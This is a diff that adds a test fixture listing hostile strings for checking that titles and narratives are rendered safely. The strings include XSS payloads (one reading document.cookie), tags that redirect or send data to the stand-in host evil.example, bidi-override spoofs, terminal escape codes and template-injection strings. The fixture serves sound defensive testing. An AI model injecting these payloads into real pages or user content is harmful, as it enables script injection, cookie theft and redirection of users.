@@ -1,0 +1,23 @@
+/** Titles and narratives that try to be more than text. */
+export const HOSTILE_TEXTS = [
+  '<script>document.title = "taken"</script>',
+  '<img src=x onerror="document.title=\'taken\'">',
+  '<svg onload=alert(1)><animate onbegin=alert(2) attributeName=x></svg>',
+  '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
+  '<style>* { display: none !important }</style>',
+  '<link rel="stylesheet" href="http://evil.example/a.css">',
+  '<base href="http://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
+  '<form action="http://evil.example/"><input name=key autofocus onfocus=alert(1)></form>',
+  '[a link](javascript:alert(document.cookie))',
+  '[another](data:text/html,<script>alert(1)</script>)',
+  '![a picture](http://evil.example/seen.png)',
+  '![one more](//evil.example/seen.png "x\' onload=alert(1)")',
+  '\u202Egnp.exe is a picture\u202C',
+  '\u2066\u2067turned around\u2069 and back',
+  '\u001B]0;taken\u0007\u001B[31mred\u001B[0m',
+  '{{constructor.constructor("alert(1)")()}} ${alert(1)}',
+  '"><b onmouseover=alert(1)>bold</b> \'"--></title></textarea></script>',
+  'Z̸͔̑a̷̧̛l̶̤̎g̵͚̈́o '.repeat(20),
+  'م'.repeat(400),
+];
